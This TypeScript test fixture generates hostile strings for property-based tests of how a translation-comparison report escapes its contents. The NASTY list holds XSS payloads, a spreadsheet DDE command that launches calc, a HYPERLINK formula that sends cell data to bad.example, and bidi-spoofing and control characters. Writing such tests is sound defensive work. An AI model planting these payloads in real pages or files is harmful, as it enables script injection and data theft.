/** Texts that try to get out of their quotation, and reports that hold nothing else. */
import fc from 'fast-check';
import type { Report } from '../../lib/core/report';
import { links, report, side } from '../panel/fixtures/build';

/** One for each way out that a format has, and for what reorders, hides or breaks text. */
export const NASTY: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '</blockquote></style><script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  '<!-- <![CDATA[ ]]> -->',
  '&lt;b&gt; &amp;amp; &#60;',
  '=HYPERLINK("https://bad.example/?"&A1,"Read on")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '＝1＋1',
  "'=already guarded",
  "'tis plain",
  'a "quoted", cell; with\ttabs',
  '# heading',
  '- item',
  '12. item',
  '> quotation',
  '**bold** _it_ `code` ~~gone~~ | cell |',
  '[link](javascript:alert(1)) ![image](https://bad.example/i.png)',
  '[note]: https://bad.example/',
  '```',
  '===',
  '<https://bad.example/> https://bad.example/ www.bad.example',
  '\\<b\\> \\\\',
  'one\r\n\r\n# two\u2028three\u2029four\u0085five',
  '\u202Egnp.exe\u202C and \u2067isolated\u2069',
  'NUL \0 bell \u0007 escape \u001B[31m delete \u007F',
  'lone \uD83D surrogates \uDE00',
  '\uFEFFmark',
  '{"json": "yes", \\u0041: \'}',
  'می\u200Cخواهم 👩\u200D🚒',
];

const UNIT = fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit));

/** Any text: ways out, in any order, between any characters, whole or half. */
export const anyText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'grapheme' }), UNIT), { minLength: 1, maxLength: 6 })
  .map((parts) => parts.join(''));

/** A pair that says the same texts on both sides, a paragraph and a finding each; titles and sites are as bad. */
export function pairOf(texts: readonly string[]): Report {
  const given = (lang: string) => ({
    url: `https://${lang}.example/a?q=(b)`,
    lang,
    title: texts[0] ?? '',
    site: texts.at(-1) ?? '',
    published: '2026-10-07',
    blocks: texts.map((text) => ['paragraph', text] as const),
  });
  return report(
    side('t', given('en')),
    side('o', given('de')),
    links(...texts.map((_, at) => `t${at}=o${at}`)),
    texts.map((_, at) => ({
      kind: 'altered',
      category: 'name',
      severity: 'high',
      confidence: 0.9,
      translation: [`t${at}`],
      original: [`o${at}`],
    })),
  );
}
